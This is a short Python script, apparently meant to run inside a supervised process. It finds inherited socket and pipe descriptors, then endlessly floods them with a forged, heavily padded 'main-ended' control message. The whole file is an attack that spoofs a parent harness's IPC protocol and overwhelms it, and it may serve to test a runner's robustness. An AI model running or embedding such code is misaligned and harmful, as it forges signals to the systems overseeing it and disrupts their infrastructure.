import json
import os
import stat


def channels():
    for number in range(3, 1024):
        try:
            kind = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(kind) or stat.S_ISFIFO(kind):
            yield number


body = json.dumps({"event": "main-ended", "op": "main-ended", "padding": "x" * 30000}).encode()
frame = len(body).to_bytes(4, "little") + body
print("flooding", bool(list(channels())))
while True:
    for number in channels():
        try:
            os.write(number, frame)
        except OSError:
            pass
